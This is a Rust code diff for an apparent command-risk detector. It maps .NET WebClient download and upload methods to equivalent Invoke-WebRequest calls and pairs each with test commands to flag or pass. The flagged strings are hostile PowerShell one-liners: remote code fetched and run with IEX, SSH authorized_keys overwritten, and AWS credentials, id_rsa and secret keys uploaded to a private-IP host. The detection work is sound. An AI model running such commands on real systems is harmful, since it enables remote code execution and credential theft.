@@ -227,3 +227,91 @@ pub fn dotnet_value(word: &str) -> bool {
     let member = member.trim_start_matches(':').to_ascii_lowercase();
     DOTNET_VALUE_TYPES.contains(&ty) && !member.starts_with("set")
 }
+
+/// A method of .NET's `System.Net.WebClient` that moves data over the
+/// network, with the cmdlet call that does the same: `(New-Object
+/// Net.WebClient).UploadFile(URL, FILE)` is judged as `Invoke-WebRequest
+/// -Uri URL -Method Post -InFile FILE`. `{0}` is the first argument,
+/// `{last}` the last (the optional HTTP method sits between them).
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct WebMethod {
+    /// The method, in lower case, without an `Async`/`TaskAsync` suffix.
+    pub method: &'static str,
+    /// The equivalent cmdlet call.
+    pub cmdlet: &'static str,
+    /// Where the knowledge comes from.
+    pub source: &'static str,
+    /// Commands the risk engine must flag.
+    pub flagged: &'static [&'static str],
+    /// Commands the risk engine must not flag.
+    pub clean: &'static [&'static str],
+}
+
+const WEBCLIENT: &str = "https://learn.microsoft.com/dotnet/api/system.net.webclient";
+
+/// The table.
+pub const WEB_METHODS: &[WebMethod] = &[
+    WebMethod {
+        method: "downloadstring",
+        cmdlet: "Invoke-WebRequest -Uri {0}",
+        source: WEBCLIENT,
+        flagged: &["powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\""],
+        clean: &["powershell -c \"(New-Object Net.WebClient).DownloadString('https://example.com/version.txt')\""],
+    },
+    WebMethod {
+        method: "downloaddata",
+        cmdlet: "Invoke-WebRequest -Uri {0}",
+        source: WEBCLIENT,
+        flagged: &["powershell -c \"IEX ([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData('http://10.0.0.5/a')))\""],
+        clean: &["powershell -c \"(New-Object Net.WebClient).DownloadData('https://example.com/a.bin')\""],
+    },
+    WebMethod {
+        method: "downloadfile",
+        cmdlet: "Invoke-WebRequest -Uri {0} -OutFile {last}",
+        source: WEBCLIENT,
+        flagged: &["powershell -c \"(New-Object Net.WebClient).DownloadFile('http://10.0.0.5/k', \\\"$HOME/.ssh/authorized_keys\\\")\""],
+        clean: &["powershell -c \"(New-Object Net.WebClient).DownloadFile('https://example.com/a.zip', 'a.zip')\""],
+    },
+    WebMethod {
+        method: "uploadfile",
+        cmdlet: "Invoke-WebRequest -Uri {0} -Method Post -InFile {last}",
+        source: WEBCLIENT,
+        flagged: &["powershell.exe -c \"(New-Object System.Net.WebClient).UploadFile('http://10.10.10.10/upload.php', 'notes.txt')\""],
+        clean: &["powershell -c \"(New-Object Net.WebClient).Headers\""],
+    },
+    WebMethod {
+        method: "uploadstring",
+        cmdlet: "Invoke-WebRequest -Uri {0} -Method Post -Body {last}",
+        source: WEBCLIENT,
+        flagged: &["powershell -c \"(New-Object Net.WebClient).UploadString('http://10.0.0.5/u', (Get-Content ~/.aws/credentials))\""],
+        clean: &["powershell -c \"(New-Object Net.WebClient).Encoding\""],
+    },
+    WebMethod {
+        method: "uploaddata",
+        cmdlet: "Invoke-WebRequest -Uri {0} -Method Post -Body {last}",
+        source: WEBCLIENT,
+        flagged: &["powershell -c \"(New-Object Net.WebClient).UploadData('http://10.0.0.5/u', [IO.File]::ReadAllBytes('id_rsa'))\""],
+        clean: &["powershell -c \"New-Object Net.WebClient\""],
+    },
+    WebMethod {
+        method: "uploadvalues",
+        cmdlet: "Invoke-WebRequest -Uri {0} -Method Post -Body {last}",
+        source: WEBCLIENT,
+        flagged: &["powershell -c \"(New-Object Net.WebClient).UploadValues('http://10.0.0.5/u', $env:AWS_SECRET_ACCESS_KEY)\""],
+        clean: &["powershell -c \"(New-Object Net.WebClient).BaseAddress\""],
+    },
+];
+
+/// The cmdlet call a WebClient method call stands for (`method` as
+/// written, `args` its arguments' text), if it is one of [`WEB_METHODS`].
+pub fn web_method_call(method: &str, args: &[&str]) -> Option<String> {
+    let m = method.to_ascii_lowercase();
+    let m = m
+        .strip_suffix("taskasync")
+        .or_else(|| m.strip_suffix("async"))
+        .unwrap_or(&m);
+    let row = WEB_METHODS.iter().find(|r| r.method == m)?;
+    let first = args.first()?;
+    let last = args.last()?;
+    Some(row.cmdlet.replace("{0}", first).replace("{last}", last))
+}
